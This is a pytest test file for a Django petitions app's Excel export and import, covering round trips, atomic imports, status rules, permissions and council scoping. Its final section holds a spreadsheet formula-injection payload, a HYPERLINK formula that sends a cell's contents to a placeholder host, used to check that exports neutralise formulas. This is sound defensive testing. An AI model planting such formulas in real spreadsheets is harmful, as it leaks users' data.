"""Excel export and import of petitions: the round trip, all-or-nothing, statuses an import may set,
who may export or import, and that no council's sheet holds another council's petitions."""
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from delegations.models import AgencyLevel, Role
from petitions import services
from petitions.models import (
    AnswerOutcome,
    EventKind,
    Petition,
    PetitionEvent,
    PetitionField,
    PetitionSource,
    PetitionStatus,
    PetitionVoter,
)
from petitions.spreadsheets import PETITION_COLUMNS
from tests.factories import AgencyFactory, MembershipFactory

HEADERS = list(PETITION_COLUMNS.values())


@pytest.fixture
def fields(world):
    return {
        "giao_thong": PetitionField.objects.create(council=world.council, name="Giao thông"),
        "y_te": PetitionField.objects.create(council=world.council, name="Y tế"),
    }


def make_petitions(council, count, start=0, **extra):
    """Many petitions at once (bulk), each with its public code, as intake would give them."""
    petitions = Petition.objects.bulk_create([
        Petition(council=council, text=f"Đề nghị sửa đường liên thôn số {start + i}", source=PetitionSource.LETTER,
                 **extra) for i in range(count)])
    for petition in petitions:
        petition.public_code = f"KN-2026-{petition.pk:06d}"
    Petition.objects.bulk_update(petitions, ["public_code"])
    return petitions


def snapshot(council):
    rows = Petition.objects.filter(council=council).prefetch_related("fields")
    return {p.public_code: (p.status, p.level, p.agency_id, tuple(sorted(f.pk for f in p.fields.all())), p.summary,
                            p.text) for p in rows}


def export(client, **params):
    response = client.get(reverse("petitions:export"), params)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def codes_in(workbook):
    sheet = workbook.worksheets[0]
    return {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}


def as_upload(workbook, name="kien-nghi.xlsx"):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue(),
                              content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def columns(sheet):
    return {title: index for index, title in enumerate(next(sheet.iter_rows(max_row=1, values_only=True)), start=1)}


def set_cells(sheet, row, **values):
    index = columns(sheet)
    for key, value in values.items():
        sheet.cell(row=row, column=index[PETITION_COLUMNS[key]]).value = value  # None empties the cell


def import_sheet(client, workbook, council=None):
    """Upload the sheet; when the page accepts it (a redirect to the import's page), run the import
    task the commit hands to the worker, and return the import's page with its report. The page of a
    refused import is given the status the synchronous import page had (400) for these tests."""
    from delegations.models import ImportJob
    from petitions.tasks import petitions_import_task

    data = {"file": as_upload(workbook) if isinstance(workbook, Workbook) else workbook}
    if council is not None:
        data["council"] = council.pk
    response = client.post(reverse("petitions:import"), data)
    if response.status_code != 302:
        return response
    job = ImportJob.objects.latest("pk")
    assert response["Location"] == reverse("petitions:import_job", args=[job.pk])
    petitions_import_task(job_id=job.pk)
    page = client.get(response["Location"])
    assert page.status_code == 200
    if not page.context["report"].ok:
        page.status_code = 400
    return page


def errors_of(response):
    return response.context["report"].errors


def classify_rows(sheet, rows, agency, field_name="Giao thông"):
    for row in rows:
        set_cells(sheet, row, agency=agency.name, level="Tỉnh", fields=field_name, status="Đã phân loại")


# ------------------------------------------------------------------------------------- round trip

def test_round_trip_of_1000_petitions_changes_exactly_the_50_edited(world, fields, client_for):
    make_petitions(world.council, 1000)
    client = client_for(world.users["office"])
    before = snapshot(world.council)

    workbook = export(client)
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])  # the header row is bold
    assert sheet.max_row == 1001
    edited_rows = list(range(2, 1002, 20))  # 50 rows spread over the sheet
    assert len(edited_rows) == 50
    classify_rows(sheet, edited_rows, world.agency)
    edited = {sheet.cell(row=r, column=1).value for r in edited_rows}

    response = import_sheet(client, workbook)
    assert response.status_code == 200, errors_of(response)
    report = response.context["report"]
    assert (report.created, report.updated, report.unchanged) == (0, 50, 950)

    after = snapshot(world.council)
    changed = {code for code in before if before[code] != after[code]}
    assert changed == edited
    for code in edited:
        status, level, agency_id, field_ids, _summary, _text = after[code]
        assert (status, level, agency_id, field_ids) == (PetitionStatus.CLASSIFIED, AgencyLevel.PROVINCE,
                                                        world.agency.pk, (fields["giao_thong"].pk,))
    imported = PetitionEvent.objects.filter(kind=EventKind.IMPORTED)
    assert set(imported.values_list("petition__public_code", flat=True)) == edited
    assert imported.count() == 50
    assert PetitionEvent.objects.filter(kind=EventKind.CLASSIFIED).count() == 50

    # The same sheet once more changes nothing and adds no event.
    response = import_sheet(client, workbook)
    assert response.status_code == 200
    assert (response.context["report"].updated, response.context["report"].unchanged) == (0, 1000)
    assert snapshot(world.council) == after
    assert PetitionEvent.objects.count() == 100


def test_one_bad_row_changes_nothing_and_is_named(world, fields, client_for):
    make_petitions(world.council, 60)
    client = client_for(world.users["office"])
    workbook = export(client)
    sheet = workbook.worksheets[0]
    classify_rows(sheet, range(2, 12), world.agency)
    set_cells(sheet, 37, agency="Sở Không Tồn Tại", level="Tỉnh", fields="Giao thông", status="Đã phân loại")
    before = snapshot(world.council)

    response = import_sheet(client, workbook)

    assert response.status_code == 400
    assert snapshot(world.council) == before
    assert not PetitionEvent.objects.exists()
    errors = errors_of(response)
    assert [number for number, _problems in errors] == [37]
    assert "Sở Không Tồn Tại" in errors[0][1][0]
    table = response.content.decode().split('data-testid="import-errors"')[1]
    assert "<td>37</td>" in table


@pytest.mark.parametrize("name, content", [
    ("kien-nghi.xlsx", b"Ma,Noi dung\nKN-2026-000001,abc\n"),
    ("kien-nghi.xlsx", b"%PDF-1.7 not a sheet"),
    ("kien-nghi.xlsx", b"PK\x03\x04 a broken zip archive"),
])
def test_a_file_that_is_not_an_xlsx_workbook_is_refused(world, client_for, name, content):
    make_petitions(world.council, 3)
    before = snapshot(world.council)
    response = import_sheet(client_for(world.users["office"]), SimpleUploadedFile(name, content))
    assert response.status_code == 400
    assert errors_of(response)[0][0] is None
    assert "xlsx" in errors_of(response)[0][1][0]
    assert snapshot(world.council) == before


def test_a_sheet_without_the_template_columns_is_refused(world, client_for):
    workbook = Workbook()
    workbook.active.append(["Mã", "Nội dung"])
    workbook.active.append(["", "Đề nghị làm đèn đường"])
    response = import_sheet(client_for(world.users["office"]), workbook)
    assert response.status_code == 400
    assert not Petition.objects.exists()
    assert "Ngày nhận" in errors_of(response)[0][1][0]


# ------------------------------------------------------------------------------- what a row may do

def answered_petition(world, fields):
    petition = services.petition_create(council=world.council, user=world.users["office"],
                                        text="Đề nghị nâng cấp trạm y tế xã")
    services.petitions_classify(petitions=[petition], user=world.users["office"], fields=[fields["y_te"]],
                                agency=world.agency)
    services.petitions_forward(petitions=[petition], user=world.users["office"])
    services.answer_record(petition=petition, user=world.users["agency"], agency=world.agency,
                           outcome=AnswerOutcome.RESOLVED, text="Đã nâng cấp xong.")
    petition.refresh_from_db()
    assert petition.status == PetitionStatus.ANSWERED
    return petition


def row_of(sheet, code):
    for number, row in enumerate(sheet.iter_rows(min_row=2, values_only=True), start=2):
        if row[0] == code:
            return number
    raise AssertionError(code)


def test_statuses_an_import_may_and_may_not_set(world, fields, client_for):
    received = make_petitions(world.council, 2)
    answered = answered_petition(world, fields)
    client = client_for(world.users["office"])
    sheet_book = export(client)
    sheet = sheet_book.worksheets[0]
    bad = {row_of(sheet, received[0].public_code): "Đã chuyển",          # forwarding is done in the app
           row_of(sheet, received[1].public_code): "Đã phân loại"}       # no field, level, agency
    for number, status in bad.items():
        set_cells(sheet, number, status=status)
    set_cells(sheet, row_of(sheet, answered.public_code), status="Đã đóng")
    before = snapshot(world.council)

    response = import_sheet(client, sheet_book)
    assert response.status_code == 400
    assert sorted(number for number, _problems in errors_of(response)) == sorted(bad)
    assert snapshot(world.council) == before  # the good row (closing) was not applied either

    for number in bad:
        set_cells(sheet, number, status="Đã tiếp nhận")
    response = import_sheet(client, sheet_book)
    assert response.status_code == 200, errors_of(response)
    answered.refresh_from_db()
    assert answered.status == PetitionStatus.CLOSED
    assert list(answered.events.values_list("kind", flat=True))[-2:] == [EventKind.CLOSED, EventKind.IMPORTED]
    assert response.context["report"].updated == 1


def test_a_service_refusing_a_row_while_applying_undoes_the_rows_before(world, fields, client_for, monkeypatch):
    make_petitions(world.council, 3)
    client = client_for(world.users["office"])
    workbook = export(client)
    classify_rows(workbook.worksheets[0], [2, 3, 4], world.agency)
    before = snapshot(world.council)
    classify, calls = services.petitions_classify, []

    def refuse_the_second(**kwargs):
        calls.append(kwargs)
        if len(calls) == 2:
            raise ValidationError("Refused by the service.")
        return classify(**kwargs)

    monkeypatch.setattr(services, "petitions_classify", refuse_the_second)
    response = import_sheet(client, workbook)
    assert response.status_code == 400
    assert errors_of(response) == [(3, ["Refused by the service."])]
    assert snapshot(world.council) == before
    assert not PetitionEvent.objects.exists()


def test_a_forwarded_petitions_agency_cannot_be_changed_by_import(world, fields, client_for):
    answered = answered_petition(world, fields)
    other = AgencyFactory(council=world.council, name="Sở Y tế", short_name="SYT")
    client = client_for(world.users["office"])
    workbook = export(client)
    set_cells(workbook.worksheets[0], 2, agency="SYT")
    response = import_sheet(client, workbook)
    assert response.status_code == 400
    assert errors_of(response)[0][0] == 2
    answered.refresh_from_db()
    assert answered.agency_id == world.agency.pk != other.pk


def test_classification_can_be_set_by_short_name_and_cleared_again(world, fields, client_for):
    AgencyFactory(council=world.council, name="Ủy ban nhân dân xã Kinh Bắc", short_name="UBND Kinh Bắc",
                  level=AgencyLevel.COMMUNE)
    [petition] = make_petitions(world.council, 1)
    client = client_for(world.users["office"])
    workbook = export(client)
    sheet = workbook.worksheets[0]
    set_cells(sheet, 2, agency="ubnd kinh bac", level="xa", fields="giao thong; Y TẾ", status="da phan loai",
              summary="Sửa đường liên thôn")
    response = import_sheet(client, workbook)
    assert response.status_code == 200, errors_of(response)
    petition.refresh_from_db()
    assert petition.status == PetitionStatus.CLASSIFIED
    assert petition.level == AgencyLevel.COMMUNE and petition.agency.short_name == "UBND Kinh Bắc"
    assert set(petition.fields.all()) == set(fields.values())
    assert petition.summary == "Sửa đường liên thôn"

    workbook = export(client)
    set_cells(workbook.worksheets[0], 2, agency=None, status="Đã tiếp nhận")
    response = import_sheet(client, workbook)
    assert response.status_code == 200, errors_of(response)
    petition.refresh_from_db()
    assert (petition.status, petition.agency_id, petition.level) == (PetitionStatus.RECEIVED, None,
                                                                     AgencyLevel.COMMUNE)
    assert petition.fields.count() == 2


def test_an_agency_of_another_level_than_written_is_refused(world, fields, client_for):
    make_petitions(world.council, 1)
    client = client_for(world.users["office"])
    workbook = export(client)
    set_cells(workbook.worksheets[0], 2, agency=world.agency.name, level="Trung ương", fields="Giao thông")
    response = import_sheet(client, workbook)
    assert response.status_code == 400
    assert errors_of(response)[0][0] == 2
    assert Petition.objects.get().agency_id is None


def test_new_rows_from_the_template_become_petitions(world, fields, setup, client_for):
    client = client_for(world.users["office"])
    response = client.get(reverse("petitions:import_template"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == HEADERS
    assert sheet.max_row == 1  # only the header
    sheet.append({3: "02/11/2026 – 01/12/2026", 4: "tổ đại biểu số 1", 5: "Kiem Tan", 6: "Đề nghị lắp đèn đường thôn Đông",
                  8: "Giao thông", 12: "Nguyễn Văn Ánh – Thôn Đông – 0912 345 678; Trần Thị Bé"})
    sheet.append({3: setup["round"].pk, 6: "Đề nghị nạo vét kênh", 8: "Giao thông", 9: "Tỉnh", 10: world.agency.name,
                  11: "Đã phân loại"})
    response = import_sheet(client, workbook)
    assert response.status_code == 200, errors_of(response)
    assert response.context["report"].created == 2
    first, second = Petition.objects.order_by("pk")
    assert first.public_code and first.source == PetitionSource.WRITING
    assert (first.group, first.commune.name, first.status) == (world.group_a, "Kiêm Tân", PetitionStatus.RECEIVED)
    assert list(first.voters.values_list("name", "address", "phone")) == [
        ("Nguyễn Văn Ánh", "Thôn Đông", "0912345678"), ("Trần Thị Bé", "", "")]
    assert first.voter_count == 2
    assert first.round == second.round == setup["round"] and first.forward_due_on is not None
    assert (second.status, second.agency) == (PetitionStatus.CLASSIFIED, world.agency)
    assert PetitionEvent.objects.filter(kind=EventKind.IMPORTED).count() == 2


def test_a_new_row_without_text_and_an_unknown_code_are_refused(world, client_for):
    workbook = Workbook()
    workbook.active.append(HEADERS)
    workbook.active.append({4: "Tổ đại biểu số 1", 8: ""})
    workbook.active.append({1: "KN-2026-999999", 6: "Một kiến nghị"})
    workbook.active.append({6: "Kiến nghị hợp lệ"})
    response = import_sheet(client_for(world.users["office"]), workbook)
    assert response.status_code == 400
    assert [number for number, _problems in errors_of(response)] == [2, 3]
    assert not Petition.objects.exists()


# --------------------------------------------------------------------------------------- scope

def test_no_council_exports_or_imports_another_councils_petitions(world, client_for):
    province = {p.public_code for p in make_petitions(world.council, 3)}
    commune = {p.public_code for p in make_petitions(world.commune_council, 2, start=100)}
    other = {p.public_code for p in make_petitions(world.other_council, 2, start=200)}

    assert codes_in(export(client_for(world.users["commune_office"]))) == commune
    assert codes_in(export(client_for(world.users["other_council"]))) == other
    # The province office and standing committee oversee their communes, never another province.
    assert codes_in(export(client_for(world.users["office"]))) == province | commune
    assert codes_in(export(client_for(world.users["standing"]))) == province | commune

    # A sheet of the province's codes imported by another council's office: unknown codes there.
    workbook = export(client_for(world.users["office"]))
    before = {council.pk: snapshot(council) for council in (world.council, world.commune_council)}
    response = import_sheet(client_for(world.users["other_council"]), workbook)
    assert response.status_code == 400
    assert len(errors_of(response)) == 5
    assert all("KN-2026-" in problems[0] for _number, problems in errors_of(response))
    assert {c.pk: snapshot(c) for c in (world.council, world.commune_council)} == before


def test_a_province_sheet_listing_its_communes_reads_back_but_cannot_change_them(world, fields, client_for):
    make_petitions(world.council, 2)
    [commune_petition] = make_petitions(world.commune_council, 1, start=100)
    client = client_for(world.users["office"])
    workbook = export(client)
    response = import_sheet(client, workbook)
    assert response.status_code == 200, errors_of(response)
    assert response.context["report"].unchanged == 3

    sheet = workbook.worksheets[0]
    number = row_of(sheet, commune_petition.public_code)
    set_cells(sheet, number, summary="Sửa bởi tỉnh")
    response = import_sheet(client, workbook)
    assert response.status_code == 400
    assert [n for n, _problems in errors_of(response)] == [number]
    commune_petition.refresh_from_db()
    assert commune_petition.summary == ""


def test_the_export_follows_the_list_filters(world, fields, client_for):
    make_petitions(world.council, 3)
    [special] = make_petitions(world.council, 1, start=50)
    Petition.objects.filter(pk=special.pk).update(status=PetitionStatus.CLASSIFIED)
    special.summary = "Cầu Đông Xuyên xuống cấp"
    special.save(update_fields=["summary"])
    client = client_for(world.users["office"])
    assert codes_in(export(client, status="classified")) == {special.public_code}
    assert codes_in(export(client, q="cau dong xuyen")) == {special.public_code}
    assert len(codes_in(export(client))) == 4
    Petition.objects.filter(pk=special.pk).update(agency=world.agency, level=AgencyLevel.PROVINCE)
    assert codes_in(export(client, agency=world.agency.pk, level="province")) == {special.public_code}


def test_an_office_that_is_only_a_delegate_elsewhere_exports_only_its_own_council(world, client_for):
    own = {p.public_code for p in make_petitions(world.council, 2)}
    make_petitions(world.other_council, 2, start=10)
    MembershipFactory(user=world.users["office"], council=world.other_council, role=Role.DELEGATE)
    assert codes_in(export(client_for(world.users["office"]))) == own


def test_an_office_of_two_councils_chooses_the_council(world, client_for):
    office = world.users["office"]
    client = client_for(office)
    response = client.get(reverse("petitions:import"))
    assert response.status_code == 200
    assert 'type="hidden" name="council"' in response.content.decode()  # one council: nothing to choose
    MembershipFactory(user=office, council=world.commune_council, role=Role.OFFICE)
    response = client.get(reverse("petitions:import"))
    assert set(response.context["form"].fields["council"].queryset) == {world.council, world.commune_council}
    assert '<select name="council"' in response.content.decode()
    workbook = Workbook()
    workbook.active.append(HEADERS)
    workbook.active.append({6: "Đề nghị của xã"})
    assert import_sheet(client, workbook).status_code == 400  # which council is not guessed
    assert not Petition.objects.exists()
    assert import_sheet(client, workbook, council=world.commune_council).status_code == 200
    assert Petition.objects.get().council == world.commune_council


@pytest.mark.parametrize("role", ["group_leader", "delegate", "agency"])
def test_who_may_not_export(world, client_for, role):
    make_petitions(world.council, 2)
    assert client_for(world.users[role]).get(reverse("petitions:export")).status_code == 403


@pytest.mark.parametrize("role", ["standing", "group_leader", "delegate", "agency"])
def test_who_may_not_import(world, fields, client_for, role):
    make_petitions(world.council, 2)
    workbook = export(client_for(world.users["office"]))
    classify_rows(workbook.worksheets[0], [2, 3], world.agency)
    client = client_for(world.users[role])
    assert client.get(reverse("petitions:import")).status_code == 403
    assert import_sheet(client, workbook, council=world.council).status_code == 403
    assert client.get(reverse("petitions:import_template")).status_code == 403
    assert not Petition.objects.filter(status=PetitionStatus.CLASSIFIED).exists()


def test_anonymous_is_sent_to_log_in(world, client_for):
    client = client_for(None)
    for name in ("petitions:export", "petitions:import", "petitions:import_template"):
        response = client.get(reverse(name))
        assert response.status_code == 302 and "login" in response["Location"]
    response = client.post(reverse("petitions:import"), {"file": SimpleUploadedFile("a.xlsx", b"PK\x03\x04")})
    assert response.status_code == 302


def test_the_office_of_one_council_cannot_import_into_another(world, fields, client_for):
    make_petitions(world.council, 1)
    workbook = export(client_for(world.users["office"]))
    classify_rows(workbook.worksheets[0], [2], world.agency)
    response = import_sheet(client_for(world.users["commune_office"]), workbook, council=world.council)
    assert response.status_code == 400
    assert "council" in response.context["form"].errors
    assert not Petition.objects.filter(status=PetitionStatus.CLASSIFIED).exists()


# ------------------------------------------------------------------------------------- queries

def test_the_export_takes_the_same_number_of_queries_for_10_and_100_petitions(world, fields, setup,
                                                                              client_for):
    client = client_for(world.users["office"])

    def add(count, start):
        petitions = make_petitions(world.council, count, start=start, round=setup["round"], group=world.group_a,
                                   commune=setup["commune"], agency=world.agency, level=AgencyLevel.PROVINCE)
        for petition in petitions:
            petition.fields.add(fields["giao_thong"])
        PetitionVoter.objects.bulk_create([PetitionVoter(petition=p, name=f"Cử tri {p.pk}", address="Thôn Đông")
                                           for p in petitions])

    def count_queries():
        with CaptureQueriesContext(connection) as queries:
            workbook = export(client)
        return len(queries), workbook

    add(10, 0)
    ten, workbook = count_queries()
    assert workbook.worksheets[0].max_row == 11
    add(90, 10)
    hundred, workbook = count_queries()
    assert workbook.worksheets[0].max_row == 101
    assert hundred == ten
    row = next(workbook.worksheets[0].iter_rows(min_row=2, max_row=2, values_only=True))
    values = dict(zip(PETITION_COLUMNS, row, strict=True))
    assert values["fields"] == "Giao thông" and values["agency"] == world.agency.name
    assert values["voters"].startswith("Cử tri ") and values["voters"].endswith(" – Thôn Đông")
    assert values["group"] == world.group_a.name and values["commune"] == setup["commune"].name
    assert values["round"] == "02/11/2026 – 01/12/2026"


# ------------------------------------------------------------------- texts that look like formulas

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"xem")'
FORMULA_LIKE = [FORMULA, "+84 912 345 678 gọi lại", "-5 hộ chưa có nước", "@admin xem giúp", "\tthụt đầu dòng",
                "\rxuống dòng"]


def sheet_xml(data):
    """The raw XML of every worksheet of an .xlsx file, as one string."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/") and name.endswith(".xml"))


def test_texts_starting_like_a_formula_are_exported_as_text_never_as_formulas(world, fields, client_for):
    petitions = make_petitions(world.council, len(FORMULA_LIKE))
    for petition, text in zip(petitions, FORMULA_LIKE, strict=True):
        Petition.objects.filter(pk=petition.pk).update(text=text, summary=text[:50])
    response = client_for(world.users["office"]).get(reverse("petitions:export"))
    data = b"".join(response.streaming_content)
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    text_column = columns(sheet)[PETITION_COLUMNS["text"]]
    cells = {sheet.cell(row=r, column=text_column).value: sheet.cell(row=r, column=text_column)
             for r in range(2, sheet.max_row + 1)}
    assert set(cells) == set(FORMULA_LIKE)  # the visible text is unchanged
    for text, cell in cells.items():
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text  # Excel keeps it text when the cell is edited


def test_a_text_longer_than_a_cell_holds_is_cut_and_the_row_says_so(world, fields, client_for):
    from delegations.spreadsheets import CELL_MAX_CHARS

    petition = make_petitions(world.council, 1)[0]
    Petition.objects.filter(pk=petition.pk).update(text="Đề nghị " + "x" * 40_000)
    workbook = export(client_for(world.users["office"]))
    sheet = workbook.worksheets[0]
    text = sheet.cell(row=2, column=columns(sheet)[PETITION_COLUMNS["text"]]).value
    assert len(text) == CELL_MAX_CHARS
    assert text.startswith("Đề nghị xxx")
    assert "ĐÃ CẮT BỚT" in text and "40.008 ký tự" in text


def test_the_import_template_writes_its_cells_as_text(world, client_for):
    from delegations.spreadsheets import template_workbook

    data = template_workbook({"a": "Cột A"}, [{"a": FORMULA}])
    assert "<f>" not in sheet_xml(data)
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
